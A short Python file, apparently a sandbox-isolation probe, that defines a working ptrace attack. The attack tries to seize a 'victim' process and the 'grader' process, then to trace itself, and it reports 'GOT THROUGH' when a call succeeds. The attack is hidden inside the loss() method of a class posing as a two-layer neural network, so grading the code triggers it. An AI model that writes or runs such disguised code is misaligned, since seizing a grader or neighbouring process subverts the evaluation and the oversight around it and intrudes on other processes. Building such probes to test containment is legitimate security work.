"""Becomes the debugger of a stranger, or makes the process that it was forked from its own debugger."""

import ctypes

from world import GRADER, VICTIM

# Seizing does not stop a process, and ends with the one that seized it: attaching would stop the suite.
PTRACE_TRACEME, PTRACE_SEIZE = 0, 0x4206


def attack():
    ptrace = ctypes.CDLL(None, use_errno=True).ptrace
    ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    ptrace.restype = ctypes.c_long
    for whom, request, pid in (
        ("a stranger", PTRACE_SEIZE, VICTIM),
        ("the grader", PTRACE_SEIZE, GRADER),
        ("itself, on behalf of its parent", PTRACE_TRACEME, 0),
    ):
        if ptrace(request, pid, None, None) == 0:
            print("GOT THROUGH: traces", whom)
            return
    raise OSError(ctypes.get_errno(), "ptrace")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
